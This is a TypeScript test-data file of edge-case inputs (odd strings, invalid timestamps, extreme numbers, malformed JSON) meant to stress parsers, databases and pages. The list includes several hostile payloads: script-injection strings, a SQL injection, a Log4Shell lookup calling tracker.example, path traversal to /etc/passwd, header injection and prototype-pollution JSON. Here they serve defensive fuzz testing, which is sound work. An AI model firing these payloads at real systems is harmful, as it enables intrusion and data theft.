// What nobody should ever send: texts, numbers, times and JSON that parsers, databases and pages have stumbled over.

/** Raw JSON stands in a payload as this text until it is written out; only so can it hold what no value can. */
export function rawMark(index: number): string {
  return `<<raw ${index}>>`;
}

export const TEXTS: readonly string[] = [
  "",
  " ",
  "\n\n\n",
  "a\tb",
  "@ada @acme/team @everyone @channel fixes #1, closes GH-1 acme/rocket#1 https://github.com/acme/rocket/issues/1",
  "<img src=x onerror=alert(1)><script>alert(1)</script><!-- stoa:comment:1 -->",
  "![beacon](https://tracker.example/pixel.gif) [x](javascript:alert(1))",
  "/stoa help\n/stoa badges\n/mentor me collector\n/stoa frobnicate @ada",
  "```\n/stoa help",
  "\u202eabc\u2066def\u2069",
  "z" + "\u0301".repeat(500),
  "\u{1F469}\u200D\u{1F4BB}".repeat(50),
  "\ufeff\u200b\u2060\u{E0041}\u{E0042}",
  "ﷺ".repeat(100),
  "İıſK",
  "'; drop table deliveries; --",
  "${jndi:ldap://tracker.example/a}",
  "../../../../etc/passwd",
  "..",
  "a/b/c",
  "%00%2e%2e%2f",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "nan",
  "-1",
  "1e999",
  "true",
  "null",
  "\r\nset-cookie: a=b",
  "http://127.0.0.1:1/",
  "not a url",
];

export const TIMES: readonly string[] = [
  "0000-00-00T00:00:00Z",
  "0000-01-01T00:00:00Z",
  "0001-01-01T00:00:00Z",
  "1969-12-31T23:59:59Z",
  "1970-01-01T00:00:00Z",
  "9999-12-31T23:59:59Z",
  "10000-01-01T00:00:00Z",
  "+275760-09-13T00:00:00Z",
  "2026-02-30T00:00:00Z",
  "2026-01-05T24:00:00Z",
  "2026-01-05T23:59:60Z",
  "2026-01-05T09:00:00+14:00",
  "2026-01-05T09:00:00.123456789Z",
  "2026-01-05",
  "yesterday",
  "",
];

export const VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  -42,
  1.5,
  2 ** 31,
  2 ** 53 - 1,
  2 ** 53,
  1e308,
  "",
  "text",
  [],
  {},
  [null],
  [[]],
  { id: null },
  [{}, [], "", 0],
];

/** JSON that JSON.stringify would not write. */
export const RAW_VALUES: readonly string[] = [
  "1e400",
  "-1e400",
  "-0",
  "123456789012345678901234567890",
  "1E+2",
  String.raw`"a\u0000b"`,
  String.raw`"\ud800"`,
  String.raw`"\udc00\ud800 x"`,
  String.raw`"\\u0000 \\\u0000 \\\\u0000"`,
  String.raw`"\ud83d\ude00"`,
  `{"id":1,"id":2,"id":"3"}`,
  `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
  `${"[".repeat(10_000)}${"]".repeat(10_000)}`,
  `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
];

/** Objects whose keys are names that objects have anyway. */
export const PROTOTYPE_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "toJSON",
  "hasOwnProperty",
  "then",
  "length",
];
